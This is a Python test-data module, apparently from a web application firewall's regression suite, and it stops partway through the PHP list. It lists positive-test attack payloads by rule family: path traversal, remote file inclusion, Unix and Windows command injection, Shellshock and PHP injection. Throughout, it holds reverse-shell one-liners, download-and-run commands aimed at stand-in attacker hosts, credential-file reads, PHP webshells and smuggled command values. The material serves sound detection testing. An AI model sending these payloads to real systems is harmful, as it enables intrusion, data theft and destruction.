"""Blind positive tests for the OS-level families (path traversal and OS file access, remote file inclusion,
Unix and Windows command injection, PHP injection), written as a rule author writes a rule's positive
regression tests from the rule titles alone, each payload sitting inside a real request.

Angle: a thirteenth author of the CRS 3.3.4 request-rule titles (930xxx, 931xxx, 932xxx, 933xxx at paranoia
levels 1-2) and of the request-rule titles later CRS releases added to those families. For every title, the
canonical attack the title names, then one test per alternative of the title's family (each command, file,
function, wrapper, directive, tag or dialect), then the variants a rule must still catch: other quoting,
casing, whitespace and comment substitutes, concatenation and encodings a server decodes (URL, double URL,
overlong UTF-8 and IIS %u, XML character references, unicode escapes in JSON). Each payload is written as it
sits in a real request: after legitimate data in the same value (a user name, a host to ping, a file name),
wrapped in the value's own syntax (a JSON list, a quoted CSV cell, an XML element, a multipart filename).

Families and sub-families (one sub-family per title):
- lfi: path-traversal-encoded, path-traversal, os-file-access, restricted-file-access,
  os-file-access-in-headers, path-traversal-triple-dot.
- rfi: rfi-url-param-ip-address, rfi-common-param-name, rfi-trailing-question-mark, rfi-off-domain-reference.
- rce: unix-command-injection, unix-command-injection-ext, windows-command-injection,
  windows-command-injection-ext, windows-powershell-command, unix-shell-expression, windows-for-if-command,
  direct-unix-command-execution, unix-shell-code, shellshock-headers, shellshock-args, restricted-file-upload,
  rce-bypass-technique, unix-command-no-evasion, unix-command-evasion, unix-shell-alias, unix-shell-history,
  unix-pipes-short-commands, sqlite-system-command, smtp-command, imap-command, pop3-command,
  windows-command-evasion, unix-shell-code-in-headers, direct-unix-command-absolute-path.
- php: php-open-tag, php-script-file-upload, php-config-directive, php-variables, php-io-stream,
  php-wrapper-scheme, php-high-risk-function-name, php-high-risk-function-call, php-serialized-object,
  php-variable-function-call, php-variable-function-call-string, php-medium-risk-function-name.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, form of
/admin/users/search with csrf_token, JSON of /api/users or PATCH /api/users/42 or a Slack event, /me/settings
form, cookie, User-Agent, Referer, a custom header, a parameter name, an XML body, a multipart field or
filename, the URL path), with a current browser's headers. Once the way a WAF regression suite sends it, to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with
arbitrary parameter names (foo, var, x, test, id, arg1): a query string, a form body, a JSON body, an XML body,
a raw form-typed body that is not key=value, the User-Agent, the Referer, a custom header or a cookie
(placements prefixed "rs-"). Titles about headers, uploads or parameter names keep to the places they name.
The benign half carries the same words innocently (Slack chat, bios, searches, profiles, documentation links,
file names, browser and client User-Agents, Referers, cookies, paths, XML profiles, settings forms).

Authorship and independence: written for this repository from general knowledge of each family and the rule
titles alone; no rule, engine source, ruleset regression test or public payload list was read. Measured once
on unchanged code; the payloads were not changed after the measurement. Deterministic: one seeded random
source for tokens, no clock.
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "hundredsixth"

# --------------------------------------------------------------------------------------------------------------
# Payload entries: a plain string, or (string, encoding) where the encoding is
#   "pre"   already URL-encoded as it goes on the wire: URL-decoding places only, sent as written
#   "jsonu" a JSON body whose string escapes some characters as \uXXXX (the server's JSON parser decodes them)
#   "ent"   an XML body whose text uses numeric character references (the server's XML parser decodes them)
#   "kv"    "name=value": the parameter name is part of the attack (query, form, JSON key)
#   "qs"    a whole raw query string
# --------------------------------------------------------------------------------------------------------------
Entry = str | tuple[str, str]


@dataclass
class Sub:
    category: str
    sub: str
    payloads: list[Entry]
    ours: list[str] = field(default_factory=list)
    rs: list[str] = field(default_factory=list)
    anchored: bool = False   # the value is the attack from its first character (no CSV wrapping, no lead-in)


OURS_DEFAULT = ["query", "form", "json", "cookie", "header:User-Agent", "json", "param-name", "xml",
                "multipart-field", "query", "header:Referer", "form", "path", "json-patch", "me-form",
                "header:X-Client-Info", "slack"]
RS_DEFAULT = ["rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-header:User-Agent", "rs-xml", "rs-cookie",
              "rs-query", "rs-header:Referer", "rs-header:X-Custom", "rs-param-name", "rs-form",
              "rs-multipart-field", "rs-path"]
OURS_HEADERS = ["header:User-Agent", "header:Referer", "cookie", "header:X-Client-Info"]
RS_HEADERS = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-cookie"]
OURS_PRE = ["query", "form", "path", "cookie", "param-name", "query", "form"]
RS_PRE = ["rs-query", "rs-form", "rs-raw-body", "rs-path", "rs-cookie", "rs-query"]
OURS_BODY = ["form", "json", "query", "multipart-field", "xml", "json-patch", "me-form"]
RS_BODY = ["rs-form", "rs-json", "rs-raw-body", "rs-query", "rs-xml", "rs-multipart-field"]
OURS_UPLOAD = ["multipart-filename", "multipart-filename", "header:X-File-Name"]
RS_UPLOAD = ["rs-multipart-filename", "rs-multipart-filename", "rs-header:X-Filename"]

# ---------------------------------------------------------------------------------------------------- lfi
LFI = [
    Sub("lfi", "path-traversal-encoded", [
        ("..%2f..%2f..%2f..%2fetc%2fpasswd", "pre"),
        ("invoice-0042.pdf%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "pre"),
        ("%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "pre"),
        ("..%5c..%5c..%5c..%5cwindows%5cwin.ini", "pre"),
        ("%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow", "pre"),
        ("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "pre"),
        ("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "pre"),
        ("..%u2215..%u2215..%u2215etc%u2215passwd", "pre"),
        ("%2e%2e%5c%2e%2e%5c%2e%2e%5cinetpub%5cwwwroot%5cweb.config", "pre"),
        ("images%2F%2E%2E%2F%2E%2E%2F%2E%2E%2Fetc%2Fgroup", "pre"),
        ("..%255c..%255c..%255cwindows%255csystem.ini", "pre"),
        ("avatars/../../../../etc/passwd", "jsonu"),
        ("templates/../../../../etc/passwd", "ent"),
    ]),
    Sub("lfi", "path-traversal", [
        "../../../../etc/passwd",
        "docs/manual/../../../../../../etc/hosts",
        "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "templates/../../../../var/log/apache2/access.log",
        "....//....//....//....//etc/passwd",
        "..././..././..././etc/passwd",
        "/var/www/html/../../../proc/self/environ",
        "en/../../../../../../home/ubuntu/.ssh/id_rsa",
        "..//..//..//..//etc//passwd",
        "C:\\inetpub\\wwwroot\\..\\..\\Windows\\win.ini",
        ".\\..\\.\\..\\.\\..\\boot.ini",
        ("report.pdf/../../../../etc/passwd%00.pdf", "pre"),
    ], ours=["query", "form", "json", "path", "cookie", "xml", "multipart-field", "json-patch", "param-name"]),
    Sub("lfi", "os-file-access", [
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "/proc/self/cmdline",
        "C:\\Windows\\win.ini",
        "c:/boot.ini",
        "/etc/group",
        "/root/.bash_history",
        "/home/deploy/.ssh/authorized_keys",
        "/var/log/nginx/access.log",
        "/etc/mysql/my.cnf",
        "C:\\Windows\\System32\\config\\SAM",
        ("/etc/passwd", "jsonu"),
    ]),
    Sub("lfi", "restricted-file-access", [
        "/.git/config",
        "/.env",
        "/.htaccess",
        "/.htpasswd",
        "/WEB-INF/web.xml",
        "/.svn/entries",
        "/.DS_Store",
        "/.aws/credentials",
        "/.ssh/id_rsa",
        "/.bash_history",
        "/web.config",
        "/.git/HEAD",
    ], ours=["path", "query", "path", "json", "form"], rs=["rs-path", "rs-query", "rs-path", "rs-form"],
        anchored=True),
    Sub("lfi", "os-file-access-in-headers", [
        "/etc/passwd",
        "Mozilla/5.0 (X11; Linux x86_64) /etc/shadow",
        "https://app.example.com/download?file=/etc/passwd",
        "C:\\Windows\\win.ini",
        "/var/log/apache2/error.log",
        "/root/.ssh/id_rsa",
        "file:///etc/group",
        "/proc/self/environ",
        "../../../../etc/passwd",
        "c:\\boot.ini",
    ], ours=OURS_HEADERS, rs=RS_HEADERS),
    Sub("lfi", "path-traversal-triple-dot", [
        ".../.../.../etc/passwd",
        "/.../.../.../windows/win.ini",
        "...\\...\\...\\boot.ini",
        "static/..../..../..../etc/hosts",
        ("%2e%2e%2e/%2e%2e%2e/%2e%2e%2e/etc/passwd", "pre"),
        (".%2e./.%2e./.%2e./etc/shadow", "pre"),
        "..;/..;/..;/WEB-INF/web.xml",
        ("..%00/..%00/..%00/etc/passwd", "pre"),
        "..\\/..\\/..\\/etc/passwd",
        "files/.../.../.../.../proc/self/environ",
    ]),
]

# ---------------------------------------------------------------------------------------------------- rfi
RFI = [
    Sub("rfi", "rfi-url-param-ip-address", [
        "http://203.0.113.45/shell.txt",
        "https://198.51.100.7:8443/c99.php",
        "ftp://192.0.2.10/pub/r57.txt",
        "http://45.33.32.156/x.txt?",
        "hTTp://203.0.113.9/inc/config.inc",
        "http://[2001:db8::1]/shell.txt",
        "ftps://198.51.100.23/kit.php",
        ("http%3A%2F%2F203.0.113.77%2Fbot.txt", "pre"),
        "https://203.0.113.5:8080/webshell.jsp",
        ("http://192.0.2.44/phpshell.txt%00", "pre"),
        ("http://203.0.113.45/shell.txt", "jsonu"),
    ], ours=["query", "form", "json", "json-patch", "xml", "me-form", "multipart-field"],
        rs=["rs-query", "rs-form", "rs-json", "rs-xml", "rs-query"], anchored=True),
    Sub("rfi", "rfi-common-param-name", [
        ("file=http://evil.example.net/shell.txt", "kv"),
        ("page=https://pastebin.example.com/raw/abc123", "kv"),
        ("include=http://attacker.example.org/inc.txt", "kv"),
        ("template=https://cdn.attacker.example/t.php", "kv"),
        ("path=ftp://files.attacker.example/x.txt", "kv"),
        ("mosConfig_absolute_path=http://evil.example.net/c.txt", "kv"),
        ("_CONF[path]=http://evil.example.net/inc/", "kv"),
        ("_SERVER[DOCUMENT_ROOT]=http://evil.example.net/r57.txt", "kv"),
        ("GALLERY_BASEDIR=http://evil.example.net/g.txt", "kv"),
        ("path[docroot]=https://evil.example.net/x.txt", "kv"),
        ("appserv_root=http://evil.example.net/a.txt", "kv"),
        ("config[root_dir]=ftp://evil.example.net/pub/", "kv"),
        ("include(http://evil.example.net/x.txt)", "kv"),
    ], ours=["query", "form", "json", "query"], rs=["rs-query", "rs-form", "rs-raw-body", "rs-json"],
        anchored=True),
    Sub("rfi", "rfi-trailing-question-mark", [
        "http://evil.example.net/shell.txt?",
        "https://raw.attacker.example/c99.txt?",
        "ftp://files.attacker.example/r57.txt?",
        "http://evil.example.net/x.txt??",
        "HTTPS://attacker.example.org/inc.php?",
        ("http%3a%2f%2fevil.example.net%2fshell.txt%3f", "pre"),
        ("https://evil.example.net/shell.txt?", "jsonu"),
        "http://evil.example.net:8080/a.txt?",
        "http://evil.example.net/index.php?page=http://evil.example.net/s.txt?",
        ("http://evil.example.net/bot.txt?", "ent"),
    ], ours=["query", "form", "json", "json-patch", "me-form", "multipart-field", "xml"],
        rs=["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body"], anchored=True),
    Sub("rfi", "rfi-off-domain-reference", [
        "https://evil.example.net/payload.txt",
        "http://attacker.example.org/inc/header.php",
        "ftp://mirror.attacker.example/x.txt",
        "https://gist.attacker.example/raw/1/x.php",
        "http://pastebin.example.com/raw/Xy12",
        "HTTPS://EVIL.EXAMPLE.NET/SHELL.TXT",
        "ftps://evil.example.net/x",
        "file://attacker.example.org/share/x.php",
        ("http%3A%2F%2Fevil.example.net%2Fx.txt", "pre"),
        ("https://evil.example.net/w.php", "jsonu"),
    ], ours=["query", "form", "json", "json-patch", "me-form", "multipart-field", "xml"],
        rs=["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body"], anchored=True),
]

# ---------------------------------------------------------------------------------------------------- rce
RCE = [
    Sub("rce", "unix-command-injection", [
        "john.smith; cat /etc/passwd",
        "8.8.8.8 && id",
        "report.pdf | ls -la /var/www",
        "127.0.0.1;curl http://203.0.113.5/x.sh|sh",
        "42 || chmod 777 /tmp/x",
        ("example.com%0aid", "pre"),
        "invoice;bash -c 'id'",
        "example.com;  awk 'BEGIN{system(\"id\")}'",
        "1|base64 /etc/passwd",
        "localhost;env",
        "alice&&find / -perm -4000",
        "ann\necho pwned > /tmp/x",
        ("8.8.8.8%3Bcat%20%2Fetc%2Fpasswd", "pre"),
    ]),
    Sub("rce", "unix-command-injection-ext", [
        "8.8.8.8; nc -e /bin/sh 203.0.113.5 4444",
        "ann | wget http://203.0.113.5/b -O /tmp/b",
        "1 && whoami",
        "london; uname -a",
        "x || ping -c 4 203.0.113.5",
        "report; python -c 'import os;os.system(\"id\")'",
        "demo | perl -e 'print 1'",
        "q;ps aux",
        "ok; telnet 203.0.113.5 23",
        "x&&sleep 5",
        "a;nslookup attacker.example",
        "b|tail -n 5 /var/log/syslog",
        "c;rm -rf /tmp/cache",
        ("d; sh -i", "jsonu"),
    ]),
    Sub("rce", "windows-command-injection", [
        "report.docx & dir C:\\",
        "127.0.0.1 | type C:\\Windows\\win.ini",
        "x && net user backup Winter2024! /add",
        "1 & ipconfig /all",
        "acme | whoami /priv",
        "a & systeminfo",
        "host && tasklist /v",
        "q|cmd /c ver",
        "x & certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
        "z || netstat -ano",
        "test & reg query HKLM\\Software",
        ("1%26echo%20%25USERNAME%25", "pre"),
    ]),
    Sub("rce", "windows-command-injection-ext", [
        "note & wmic process call create calc.exe",
        "q & bitsadmin /transfer j http://203.0.113.5/a.exe C:\\a.exe",
        "x & net1 localgroup administrators",
        "1 && sc query",
        "2 & schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
        "c & rundll32 shell32.dll,Control_RunDLL",
        "d & mshta http://203.0.113.5/a.hta",
        "e | findstr /si secret *.config",
        "f & copy \\\\203.0.113.5\\s\\nc.exe %TEMP%",
        "h && del /f /q C:\\inetpub\\logs\\*",
        "i & start calc",
        "j & regsvr32 /s /u /i:http://203.0.113.5/a.sct scrobj.dll",
        "K & WHOAMI",
    ]),
    Sub("rce", "windows-powershell-command", [
        "x; powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"",
        "1 | powershell.exe -enc SQBFAFgAIAAoAGkAdwByACkA",
        "Invoke-Expression (Invoke-WebRequest http://203.0.113.5/p).Content",
        "Get-ChildItem C:\\ -Recurse",
        "Start-Process calc.exe",
        "a | pwsh -c Get-Process",
        "Invoke-WebRequest -Uri http://203.0.113.5/x -OutFile x.exe",
        "iex(iwr http://203.0.113.5/a -UseBasicParsing)",
        "Set-ExecutionPolicy Bypass -Scope Process",
        "Get-Content C:\\Windows\\win.ini",
        "[System.Diagnostics.Process]::Start('cmd.exe')",
        "Remove-Item -Recurse -Force C:\\inetpub\\wwwroot",
        "GeT-WmiObject Win32_OperatingSystem",
    ]),
    Sub("rce", "unix-shell-expression", [
        "ann$(id)",
        "`whoami`",
        "$(cat /etc/passwd)",
        "hello $(curl -s http://203.0.113.5/x|sh)",
        "<(id)",
        ">(nc 203.0.113.5 4444)",
        "ann`sleep 5`",
        ("%24%28id%29", "pre"),
        ("report $(id)", "jsonu"),
        "=$(printf '\\x69\\x64')",
        "tmp/$(uname -a).txt",
        "ann ${IFS} $((7*7))",
    ]),
    Sub("rce", "windows-for-if-command", [
        "x & for /f %i in ('whoami') do echo %i",
        "1 & for %a in (1 2 3) do ping 203.0.113.5",
        "y && if exist C:\\boot.ini type C:\\boot.ini",
        "a | for /L %i in (1,1,10) do nslookup x%i.attacker.example",
        "b & if defined USERNAME echo %USERNAME%",
        "c & FOR /R C:\\ %f IN (*.config) DO type %f",
        "d & if not exist C:\\x mkdir C:\\x",
        "e & for /d %d in (C:\\Users\\*) do dir %d",
        ("f%26%20for%20%2Ff%20%22tokens%3D%2A%22%20%25i%20in%20%28%27dir%27%29%20do%20echo%20%25i", "pre"),
        "g &If errorlevel 1 echo x",
        "h & for /f \"delims=\" %a in ('type C:\\Windows\\win.ini') do @echo %a",
    ]),
    Sub("rce", "direct-unix-command-execution", [
        "cat /etc/passwd",
        "wget http://203.0.113.5/x.sh -O /tmp/x.sh",
        "curl -o /tmp/s http://203.0.113.5/s",
        "nc -lvp 4444 -e /bin/bash",
        "ls -la /var/www/html",
        "id",
        "uname -a",
        "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "chmod +x /tmp/x",
        "whoami",
        "perl -e 'exec \"/bin/sh\"'",
        "  ping -c 1 203.0.113.5",
    ], anchored=True),
    Sub("rce", "unix-shell-code", [
        "/bin/sh",
        "x;/bin/bash -c id",
        "x|/usr/bin/env python",
        "/bin/busybox nc 203.0.113.5 4444 -e sh",
        "/bin/zsh",
        "/usr/bin/perl -e 'exit'",
        "/usr/local/bin/python3",
        "/usr/bin/nc",
        "/bin/dash -c id",
        "/sbin/ifconfig",
        "/usr/bin/php -r 'system(\"id\");'",
        "/bin//sh",
    ]),
    Sub("rce", "shellshock-headers", [
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        "() { :;}; echo; /usr/bin/id",
        "() { ignored; }; /bin/sh -c 'curl http://203.0.113.5/x|sh'",
        "() { _; } >_[$($())] { echo hi; }",
        "() {:;}; wget http://203.0.113.5/s -O /tmp/s",
        "() { :; }; ping -c 1 203.0.113.5",
        "(){ :; }; /bin/sleep 20",
        "() {  :  ;  } ; echo vulnerable",
        "() { test;};/usr/bin/nc 203.0.113.5 4444 -e /bin/sh",
        "() { :; }; echo Content-Type: text/plain; echo; cat /etc/shadow",
    ], ours=OURS_HEADERS, rs=RS_HEADERS, anchored=True),
    Sub("rce", "shellshock-args", [
        "() { :; }; /bin/cat /etc/passwd",
        "() { :;}; /usr/bin/id",
        ("%28%29%20%7B%20%3A%3B%20%7D%3B%20id", "pre"),
        "() { x; }; echo pwned",
        ("()%20{%20:;%20};%20/bin/ls", "pre"),
        "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
        "(){:;};curl -s http://203.0.113.5/p",
        "() { :; }; echo; echo; /bin/bash -c 'uname -a'",
        "() { foo;}; nc 203.0.113.5 4444",
        ("() { :; }; sleep 5", "jsonu"),
    ], ours=["query", "form", "json", "xml", "multipart-field", "me-form", "param-name"],
        rs=["rs-query", "rs-form", "rs-raw-body", "rs-json", "rs-xml"], anchored=True),
    Sub("rce", "restricted-file-upload", [
        ".htaccess",
        "web.config",
        ".user.ini",
        ".htpasswd",
        ".bashrc",
        ".bash_profile",
        "../../.htaccess",
        "uploads/.htaccess",
        "WEB.CONFIG",
        ".profile",
        "authorized_keys",
        ".env",
    ], ours=OURS_UPLOAD, rs=RS_UPLOAD, anchored=True),
    Sub("rce", "rce-bypass-technique", [
        "ann;c'a't /etc/passwd",
        "x|w\\h\\o\\a\\m\\i",
        "1;/b?n/c?t /e?c/p?ss?d",
        "a;cat$IFS/etc/passwd",
        "a;ca$@t /etc/passwd",
        "1;wh\"\"oami",
        "x;{cat,/etc/passwd}",
        "x;c${u}at /etc/passwd",
        "q;/???/??t /???/??ss??",
        "a;who$()ami",
        "z;ca\\t /et\\c/pas\\swd",
        "x;$'\\x69\\x64'",
        "x;i''d",
    ]),
    Sub("rce", "unix-command-no-evasion", [
        "alice; id",
        "bob && uname -r",
        "1 | head -n 20 /etc/passwd",
        "abc; base32 /etc/shadow",
        "x; getent passwd",
        "y & crontab -l",
        "z; hostname",
        "q || lsof -i",
        "r; openssl s_client -connect 203.0.113.5:443",
        "s; socat tcp:203.0.113.5:4444 exec:sh",
        "t; dd if=/etc/passwd",
        "u; xxd /etc/passwd",
        "v; strings /proc/self/environ",
    ]),
    Sub("rce", "unix-command-evasion", [
        "ann;c\"a\"t /etc/passwd",
        "x;ca''t${IFS}/etc/passwd",
        "1;w'h'o'am'i",
        "b;u\\na\\me -a",
        "c;/usr/bin/wh?ami",
        "d;n\\c -e /bin/s\\h 203.0.113.5 4444",
        "e;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)",
        "f;cu''rl${IFS}http://203.0.113.5",
        "g;`echo d2hvYW1p|base64 -d`",
        "h;i$()d",
        "i;c${x}at</etc/passwd",
        "j|${PATH:0:1}bin${PATH:0:1}id",
    ]),
    Sub("rce", "unix-shell-alias", [
        "a; alias ls='nc 203.0.113.5 4444 -e /bin/sh'",
        "x && alias sudo='curl http://203.0.113.5/s|sh;sudo'",
        "ok; alias -p",
        "1|alias",
        "y; unalias -a",
        "q;alias x=id;x",
        "w`alias grep=id`",
        "e$(alias)",
        "r; alias c=cat; c /etc/passwd",
        "t\nalias l='ls -la'",
    ]),
    Sub("rce", "unix-shell-history", [
        "id;!-1",
        "x; !-2",
        "user!-3",
        "1; history",
        "q; history -c",
        "w && fc -l",
        "e; !cat",
        "r; !!",
        "t; history | grep ssh",
        "y;fc -s",
        ("u%3B%20%21-1", "pre"),
    ]),
    Sub("rce", "unix-pipes-short-commands", [
        "abc | id",
        "x | w",
        "y | ps",
        "z |ls",
        "q | df -h",
        "r | du -sh /",
        "s|env",
        "t | nc 203.0.113.5 80",
        "u | sh",
        "v | tr a-z A-Z",
        "a | top -n 1",
        "b | dig attacker.example",
        "c | ip a",
    ]),
    Sub("rce", "sqlite-system-command", [
        ".system id",
        ".shell cat /etc/passwd",
        "1;\n.system whoami",
        ".load /tmp/evil.so",
        ".output /var/www/html/x.php",
        ".import /etc/passwd users",
        ".once /tmp/x",
        ".SYSTEM uname -a",
        "test';\n.shell nc 203.0.113.5 4444 -e /bin/sh",
        ".read /tmp/cmds.sql",
    ], ours=OURS_BODY, rs=RS_BODY),
    Sub("rce", "smtp-command", [
        "alice@example.com\r\nRCPT TO:<victim@example.net>",
        ("alice@example.com%0d%0aDATA%0d%0aSubject:%20x%0d%0a.%0d%0a", "pre"),
        "x\r\nHELO attacker.example",
        "x\r\nEHLO attacker.example",
        "bob@example.com\r\nMAIL FROM:<ceo@example.com>",
        "RCPT TO:<all@example.com>",
        "hi\r\nDATA\r\nSubject: hi\r\n.\r\nQUIT",
        "a\r\nVRFY root",
        "b\r\nEXPN staff",
        "c\nRSET\nQUIT",
    ], ours=OURS_BODY, rs=RS_BODY),
    Sub("rce", "imap-command", [
        "INBOX\r\na1 LOGIN admin admin",
        "\"INBOX\"\r\nA001 SELECT INBOX",
        "a1 LIST \"\" *",
        ("x%0d%0aA2%20FETCH%201:*%20(BODY[])", "pre"),
        "x\r\nA3 UID FETCH 1 BODY[HEADER]",
        "y\r\nA4 CAPABILITY",
        "z\r\nA5 STORE 1:* +FLAGS (\\Deleted)",
        "w\r\nA6 EXPUNGE",
        "v\r\nA7 AUTHENTICATE PLAIN",
        "a9 COPY 1:* Trash",
        "inbox\na10 DELETE INBOX",
    ], ours=OURS_BODY, rs=RS_BODY),
    Sub("rce", "pop3-command", [
        "user@example.com\r\nUSER admin",
        "x\r\nRETR 1",
        "x\r\nDELE 1",
        "y\r\nLIST",
        "z\r\nSTAT",
        "w\r\nTOP 1 10",
        "v\r\nUIDL",
        "u\r\nAPOP mrose c4c9334bac560ecc979e58001b3e22fb",
        ("t%0d%0aRETR%201%0d%0aQUIT", "pre"),
        "s\r\nRSET\r\nQUIT",
    ], ours=OURS_BODY, rs=RS_BODY),
    Sub("rce", "windows-command-evasion", [
        "a & w^h^o^a^m^i",
        "b & c^m^d /c dir",
        "c & \"who\"ami",
        "d & cmd.exe /c \"set x=who&& set y=ami&& call %x%%y%\"",
        "e & %COMSPEC% /c whoami",
        "f | p^o^w^e^r^s^h^e^l^l -c id",
        "g & powershell -e dwBoAG8AYQBtAGkA",
        "h & PoWeRsHeLl.ExE -NoP -C \"&('i'+'ex') 'whoami'\"",
        "i & cmd /V:ON /C \"set a=whoami&& !a!\"",
        "j & c:\\windows\\system32\\cmd.exe /c ver",
        "k & %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c hostname",
        "l & cmd,/c,whoami",
        "m & cmd;/c;dir",
        "n & ((\"who\")+(\"ami\"))|iex",
    ]),
    Sub("rce", "unix-shell-code-in-headers", [
        "Mozilla/5.0 $(curl -s http://203.0.113.5/x|sh)",
        "; /bin/sh -c 'id'",
        "/bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "`wget -qO- http://203.0.113.5/a|sh`",
        "curl/7.88.1;/usr/bin/id",
        "https://app.example.com/;nc 203.0.113.5 4444 -e /bin/sh",
        "${IFS}cat${IFS}/etc/passwd",
        "|/bin/cat /etc/shadow",
        "python3 -c 'import socket,os,pty;s=socket.socket()'",
        "&& /usr/bin/perl -e 'exit'",
    ], ours=OURS_HEADERS, rs=RS_HEADERS),
    Sub("rce", "direct-unix-command-absolute-path", [
        "/bin/cat /etc/passwd",
        "/usr/bin/id",
        "/bin/ls -la /",
        "/usr/bin/wget http://203.0.113.5/x",
        "/bin/c?t /etc/passwd",
        "/???/??t /???/p??s??",
        "/usr/bin/who*mi",
        "/bin/[c]at /etc/shadow",
        "/u*/b*/wh?ami",
        "/usr/local/bin/nc -e /bin/sh 203.0.113.5 4444",
        "/usr/bin/curl -d @/etc/passwd http://203.0.113.5",
        "x;/bin/s[h] -c id",
    ], anchored=True),
]

# ---------------------------------------------------------------------------------------------------- php
PHP = [
    Sub("php", "php-open-tag", [
        "<?php system($_GET['cmd']); ?>",
        "Hello <?php echo 1; ?>",
        "<?=`id`?>",
        "<? passthru('id'); ?>",
        "<?PHP eval($_POST['x']);",
        "<script language=\"php\">system('id');</script>",
        ("<?php phpinfo(); ?>", "ent"),
        ("%3C%3Fphp%20system%28%27id%27%29%3B%3F%3E", "pre"),
        ("<?php echo shell_exec('id'); ?>", "jsonu"),
        "GIF89a;<?php system($_REQUEST[0]); ?>",
        "?>\n<?php @eval($_POST[1]);",
        "<?php\n  file_put_contents('x.php', $_GET[1]);",
    ]),
    Sub("php", "php-script-file-upload", [
        "shell.php",
        "avatar.jpg.php",
        "cmd.phtml",
        "x.php5",
        "x.php7",
        "x.phar",
        "x.pht",
        "SHELL.PHP",
        "invoice.pHp",
        "x.php.",
        "x.php%00.jpg",
        "x.phps",
        "x.php3",
    ], ours=OURS_UPLOAD, rs=RS_UPLOAD, anchored=True),
    Sub("php", "php-config-directive", [
        "allow_url_include=On",
        "auto_prepend_file=php://input",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "disable_functions=",
        "open_basedir=/",
        "safe_mode=0",
        "auto_append_file=/etc/passwd",
        "allow_url_fopen = 1",
        "error_log=/var/www/html/x.php",
        "register_globals=On",
        "php_value auto_prepend_file /tmp/x",
        ("-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a%2f%2finput", "qs"),
        ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "qs"),
    ]),
    Sub("php", "php-variables", [
        "$_GET['cmd']",
        "$_POST[x]",
        "$_SERVER['HTTP_USER_AGENT']",
        "$GLOBALS['db_pass']",
        "$_COOKIE",
        "$_REQUEST[0]",
        "$_ENV['PATH']",
        "$_FILES['f']['tmp_name']",
        "$_SESSION['admin']=1",
        "$HTTP_RAW_POST_DATA",
        "$HTTP_GET_VARS['x']",
        "{$_SERVER['DOCUMENT_ROOT']}",
        ("%24_SERVER%5B%27DOCUMENT_ROOT%27%5D", "pre"),
    ]),
    Sub("php", "php-io-stream", [
        "php://input",
        "php://filter/convert.base64-encode/resource=index.php",
        "php://stdin",
        "php://memory",
        "php://temp",
        "php://fd/0",
        "php://output",
        "PHP://INPUT",
        "php://stderr",
        "php://filter/read=string.rot13/resource=config.php",
        ("php%3A%2F%2Finput", "pre"),
        ("php://input", "jsonu"),
    ]),
    Sub("php", "php-wrapper-scheme", [
        "zip://uploads/avatar.zip#shell.php",
        "phar://uploads/avatar.jpg/shell.php",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "expect://id",
        "glob:///var/www/*",
        "compress.zlib:///etc/passwd",
        "compress.bzip2://../../config.php",
        "rar://uploads/a.rar#x.php",
        "ssh2.exec://deploy@203.0.113.5:22/id",
        "ogg://uploads/x.ogg",
        "file:///etc/passwd",
        ("ZIP://x.zip%23a.php", "pre"),
        ("phar://uploads/x.jpg", "jsonu"),
    ]),
    Sub("php", "php-high-risk-function-name", [
        "passthru",
        "shell_exec",
        "proc_open",
        "base64_decode",
        "phpinfo",
        "pcntl_exec",
        "call_user_func_array",
        "create_function",
        "gzinflate",
        "fsockopen",
        "move_uploaded_file",
        "file_put_contents",
        "PassThru",
    ], anchored=True),
    Sub("php", "php-high-risk-function-call", [
        "system('id')",
        "exec ('whoami')",
        "eval($_POST['z'])",
        "assert(\"phpinfo()\")",
        "shell_exec (\"cat /etc/passwd\")",
        "passthru/**/('ls')",
        "popen('id','r')",
        "preg_replace('/x/e','system(\"id\")','x')",
        "file_get_contents('/etc/passwd')",
        "SYSTEM ( 'id' )",
        "readfile(\"/etc/passwd\")",
        "1;exec\t('id');",
        ("system('id')", "jsonu"),
    ]),
    Sub("php", "php-serialized-object", [
        "O:8:\"stdClass\":1:{s:1:\"a\";s:2:\"id\";}",
        "a:1:{i:0;O:7:\"Logfile\":1:{s:4:\"path\";s:13:\"/tmp/shel.php\";}}",
        "O:+4:\"User\":1:{s:5:\"admin\";b:1;}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"\\0*\\0events\";N;}",
        ("O%3A4%3A%22User%22%3A1%3A%7Bs%3A5%3A%22admin%22%3Bb%3A1%3B%7D", "pre"),
        "O:4:\"User\":2:{s:4:\"name\";s:5:\"alice\";s:4:\"role\";s:5:\"admin\";}",
